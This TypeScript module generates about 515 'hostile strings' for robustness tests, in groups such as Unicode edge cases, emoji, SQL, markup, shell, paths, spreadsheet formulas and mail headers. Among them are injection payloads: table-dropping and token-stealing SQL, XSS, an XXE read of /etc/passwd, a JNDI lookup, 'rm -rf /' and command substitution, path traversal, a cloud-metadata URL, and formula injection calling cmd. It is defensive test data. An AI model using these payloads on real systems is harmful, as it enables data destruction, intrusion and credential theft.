/**
 * 515 texts that break careless programs: what each group is about stands beside it. They are generated rather than kept in
 * a file, so that editors, mailers and code pages cannot repair them unnoticed.
 */
export interface HostileString {
  readonly group: string;
  readonly text: string;
}

const point = (code: number): string => String.fromCodePoint(code);
const points = (first: number, last: number): string[] => Array.from({ length: last - first + 1 }, (_, index) => point(first + index));
const hex = (text: string): string => [...text].map((char) => (char.codePointAt(0) ?? 0).toString(16)).join('-');

/** Unicode's White_Space, the line breaks among them. */
const SPACES = [
  ...points(0x09, 0x0d),
  ' ',
  point(0x85),
  point(0xa0),
  point(0x1680),
  ...points(0x2000, 0x200a),
  point(0x2028),
  point(0x2029),
].concat(point(0x202f), point(0x205f), point(0x3000));
const INVISIBLE = [
  0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x3164, 0xfeff, 0xffa0,
].map(point);
const BIDI = [0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map(point);
const CONTROLS = [...points(0x01, 0x08), ...points(0x0e, 0x1f), point(0x7f), ...[0x80, 0x81, 0x84, 0x90, 0x9b, 0x9f].map(point)];

const PLANES = Array.from({ length: 17 }, (_, plane) => plane * 0x10000);
const OUTER_PLANES = [0, 1, 15, 16].map((plane) => plane * 0x10000);
const NONCHARACTERS = [point(0xfdd0), point(0xfdef), ...OUTER_PLANES.flatMap((plane) => [point(plane + 0xfffe), point(plane + 0xffff)])];
const EDGES = [...PLANES.map((plane) => point(plane === 0 ? 0x20ac : plane)), ...OUTER_PLANES.map((plane) => point(plane + 0xfffd))];
/** Neighbours of the surrogate range, and the pairs at its corners: all of them valid. */
const NEAR_SURROGATES = ['\ud7ff', '\ue000', '\ud800\udc00', '\ud800\udfff', '\udbff\udc00', '\udbff\udfff', '\uf8ff', 'x\ud83d\ude00y'];

const marks = (base: string, count: number): string =>
  base + Array.from({ length: count }, (_, i) => point(0x300 + ((i * 7) % 0x70))).join('');

const COMBINING = [
  ...[1, 2, 8, 40, 150].map((count) => marks('Z', count)),
  [...'SHOES'].map((letter) => marks(letter, 12)).join(''),
  point(0x301),
  `e${point(0x301)}`,
  point(0xe9),
  `${point(0x1100)}${point(0x1161)}${point(0x11a8)}`,
  point(0xac01),
  `${point(0x928)}${point(0x93c)}`,
  point(0xfdfa),
  `a${point(0x20dd)}`,
  point(0x1d15e),
  'ﬁﬂﬀ',
  'ßẞ',
  'İıIi',
  'ΑΣ ας',
  'Ǆǅǆ',
];

const zwj = (...parts: number[]): string => parts.map(point).join(point(0x200d));
const flag = (letters: string): string => [...letters].map((letter) => point(0x1f1a5 + letter.charCodeAt(0))).join('');

const EMOJI = [
  '😀',
  '👍🏿',
  zwj(0x1f468, 0x1f469, 0x1f467, 0x1f466),
  zwj(0x1f3f3, 0x1f308),
  zwj(0x1f469, 0x1f52c),
  `${zwj(0x1f9d1, 0x1f91d, 0x1f9d1)}`,
  `${point(0x2764)}${point(0xfe0f)}`,
  `${point(0x2764)}${point(0xfe0e)}`,
  `1${point(0xfe0f)}${point(0x20e3)}`,
  `#${point(0x20e3)}`,
  flag('DE'),
  flag('ZZ'),
  flag('D'),
  `${point(0x1f3f4)}${[...'gbeng'].map((letter) => point(0xe0000 + letter.charCodeAt(0))).join('')}${point(0xe007f)}`,
  point(0x1f3fb),
  zwj(0x1f600, 0x1f600, 0x1f600, 0x1f600, 0x1f600, 0x1f600),
  '🧑🏽‍🦽‍➡️',
  '😀'.repeat(50),
  '😀'.repeat(100),
  `${'x'.repeat(76)}😀😀`,
];

const SQL = [
  "'",
  "''",
  '"',
  '`',
  '\\',
  "\\'",
  "' OR '1'='1",
  "'; DROP TABLE sites; --",
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT token_hash FROM api_tokens --",
  "') RETURNING (SELECT version()) --",
  '$1',
  '$$; SELECT 1; $$',
  '?',
  '??',
  ':name',
  '::int',
  "E'\\x00'",
  "U&'\\0000'",
  '%',
  '%%',
  '_',
  '\\%\\_',
  '/* open',
  '-- comment',
  '{1,2,3}',
  '{"a","b"}',
  '(1,2)',
  "array['x']",
  'NULL',
  "x' AND 1=(SELECT COUNT(*) FROM accounts) AND 'x'='x",
  '\\copy accounts to program',
  "1' WAITFOR DELAY '0:0:5'--",
];

const MARKUP = [
  '<',
  '>',
  '&',
  '&amp;',
  '&#0;',
  '&#x3c;script&#x3e;',
  '<b>bold</b>',
  '<script>alert(1)</script>',
  '<ScRiPt src=//example.org/x.js></sCrIpT>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](https://example.org/pixel.png)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<!-- comment',
  '--><script>alert(1)</script>',
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '<?xml version="1.0"?>',
  '<?php echo 1; ?>',
  '</title><script>alert(1)</script>',
  '</textarea>',
  '<style>*{display:none}</style>',
  '<base href="https://example.org/">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '\\u003cscript\\u003e',
  '</script><script>alert(1)</script>',
];

const TEMPLATES = [
  '{{7*7}}',
  '$' + '{7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% for x in y %}',
  '[[7*7]]',
  '@(7*7)',
  '{{constructor.constructor("return 1")()}}',
  '$' + '{jndi:ldap://example.org/a}',
  '{{count}} $t(app.title)',
  '{name}',
  '%s%s%s%s%n',
  '%x %x %p',
  '%d%i%j%o%O%c',
  "$& $1 $` $'",
  '{0}{1}',
  '%(name)s',
  '\\1\\2',
];

const SHELL = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '&& shutdown',
  '> /dev/null',
  '--help',
  '*',
  '%PATH%',
  '$HOME',
  '%0a%0d',
  '*)(uid=*))(|(uid=*',
  'admin)(&)',
  '\\2a\\28',
  "' or count(/*)=1 or '",
  '{"$ne": null}',
  '{"$where": "sleep(1000)"}',
];

const PATHS = [
  '.',
  '..',
  '...',
  '/',
  '//',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '..%c0%af',
  '/etc/passwd%00.png',
  'file:///etc/passwd',
  'C:\\CON',
  'CON',
  'NUL',
  'con.txt',
  '\\\\server\\share',
  '.git/config',
  '.env',
  'a/b',
  'a?b=c',
  'a#b',
  'a%2Fb',
  'a%b',
  '%',
  '%00',
  '%zz',
  ';jsessionid=1',
  '//example.org',
  'https://example.org/',
  '/\\example.org',
  'http://169.254.169.254/latest/meta-data',
];

const TABLES = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://example.org","x")',
  '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
  '+cmd|x',
  '-2+3+cmd|x',
  '@cmd',
  '＝1+1',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  ',',
  ';',
  '"',
  '"",""',
  'a,b;c\td|e',
  'a"b"c',
  'sep=,',
  'ID',
  '0001',
  '1-2',
  '1E5',
];

const HEADERS = [
  'a\r\nBcc: victim@example.org',
  'a\nSubject: other',
  'a\rTo: other@example.org',
  'a%0d%0aSet-Cookie: session=1',
  'a\r\n\r\n<html>',
  'a\r\n.\r\nMAIL FROM:<x@example.org>',
  '=?utf-8?q?=0d=0aBcc:_x@example.org?=',
  '=?utf-8?b?AAAA?=',
  'x <x@example.org>, y <y@example.org>',
  '"x" <x@example.org>',
  'x@example.org',
  'a;b=c',
  'BEGIN:VCALENDAR\nEND:VCALENDAR',
  'X;VALUE=URI:https://example.org',
  'a\u2028Bcc: x',
  '\nfirst line empty',
  'last line empty\n',
  'a\n\n\n\nb',
  '.\n.\n',
];

const NUMBERS = [
  '0',
  '-0',
  '1',
  '-1',
  '00',
  '1.0',
  '.5',
  '1,5',
  '1_000',
  '1e309',
  '-1e309',
  '1e-400',
  '0x7fffffff',
  '0b1',
  '0o7',
  '2147483647',
  '2147483648',
  '-2147483649',
  '9007199254740993',
  '9223372036854775807',
  '9223372036854775808',
  '18446744073709551616',
  '3.4028236e38',
  '9'.repeat(40),
  '9'.repeat(400),
  'NaN',
  'Infinity',
  '-Infinity',
  '١٢٣',
  '１２３',
  'Ⅻ',
  '1/0',
  '0/0',
];

const WORDS = [
  'undefined',
  'null',
  'None',
  'NULL ',
  '(null)',
  'true',
  'false',
  '[object Object]',
  'function(){}',
  'Symbol()',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'toJSON',
  'then',
  '__defineGetter__',
  '__proto__[admin]',
  'constructor.prototype.admin',
  'length',
  'id',
  'me',
  'new',
  'admin',
  'matrix',
  'openapi.json',
  'root',
  'anonymous',
  'everyone',
];

const DATES = [
  '2026-02-30',
  '2026-W54',
  '2026-W53',
  '0000-00-00',
  '9999-12-31',
  '10000-01-01',
  '-271821-04-20',
  '1970-01-01T00:00:00Z',
  '2026-03-29T02:30:00+01:00',
  '2016-12-31T23:59:60Z',
  'infinity',
  '-infinity',
  'now',
  'today',
  'epoch',
  'allballs',
  'Europe/Nowhere',
  'UTC+25',
];

const JSON_PIECES = [
  '{}',
  '[]',
  '{"a":1}',
  '{"a":{"a":{"a":{}}}}',
  '"',
  '\\"',
  '","admin":true,"x":"',
  '\\u0000',
  '\\ud800',
  '[1,2,',
  '// comment',
  '{"__proto__":{"admin":true}}',
  'a\\',
  '\\n',
  '\\',
];

const REGEXES = [
  '.*',
  '(',
  '[',
  '[a-',
  '(a+)+$',
  `${'a'.repeat(60)}!`,
  '(?:',
  '\\d{1,99999}',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  'a{0}',
  '(?<n>',
  `${' x'.repeat(60)}/`,
];

const LONG = [
  'x'.repeat(63),
  'x'.repeat(64),
  'x'.repeat(65),
  'x'.repeat(199),
  'x'.repeat(200),
  'x'.repeat(201),
  'x'.repeat(2712),
  'x'.repeat(20_000),
  'x'.repeat(20_001),
  'x'.repeat(200_000),
  'ü'.repeat(200),
  '漢'.repeat(200),
  '\u{1f9e6}'.repeat(32),
  'word '.repeat(39),
  `${'a'.repeat(100)} ${'b'.repeat(99)}`,
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
  ' '.repeat(500),
  '\u200b'.repeat(200),
];

const SCRIPTS = [
  'مرحبا',
  'שלום',
  'Здравствуйте',
  '你好世界',
  'こんにちは',
  '안녕하세요',
  'สวัสดี',
  'नमस्ते',
  'ሰላም',
  'Ω≈ç√∫˜µ≤≥÷',
  '𝕋𝕙𝕖 𝓢𝓱𝓸𝓮𝓼',
  'pаypal',
  'ᏗᏁ',
  'abc\u202edcb',
  'א1ב2',
  '﷽',
];

/** What no part of the product can keep: it has to say so. */
const UNSTORABLE = ['\0', 'a\0b', '\0\0\0', `name${point(0)}`, '\ud800', '\udfff', '\ude00\ud83d', 'a\ud83d', '\udc00b'];

const groups: Readonly<Record<string, readonly string[]>> = {
  empty: [''],
  spaces: [...SPACES, ...SPACES.map((space) => `${space}around ${hex(space)}${space}`)],
  invisible: INVISIBLE,
  bidi: BIDI.map((char) => `a${char}b ${hex(char)}`),
  controls: CONTROLS.map((char) => `c${hex(char)}${char}`),
  noncharacters: NONCHARACTERS.map((char) => `n${char}`),
  edges: [...EDGES, ...NEAR_SURROGATES],
  combining: COMBINING,
  emoji: EMOJI,
  sql: SQL,
  markup: MARKUP,
  templates: TEMPLATES,
  shell: SHELL,
  paths: PATHS,
  tables: TABLES,
  headers: HEADERS,
  numbers: NUMBERS,
  words: WORDS,
  dates: DATES,
  json: JSON_PIECES,
  regexes: REGEXES,
  long: LONG,
  scripts: SCRIPTS,
  unstorable: UNSTORABLE,
};

function distinct(): readonly HostileString[] {
  const seen = new Set<string>();
  return Object.entries(groups).flatMap(([group, texts]) =>
    texts.flatMap((text) => {
      if (seen.has(text)) return [];
      seen.add(text);
      return [{ group, text }];
    }),
  );
}

export const HOSTILE_STRINGS = distinct();

/** How a text is called in the output of a test: printable, short, unique. */
export const nameOf = ({ group, text }: HostileString): string =>
  `${group} ${JSON.stringify(text.length > 60 ? `${text.slice(0, 40)}… ${text.length}` : text).replace(/[^\x20-\x7e]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)}`;
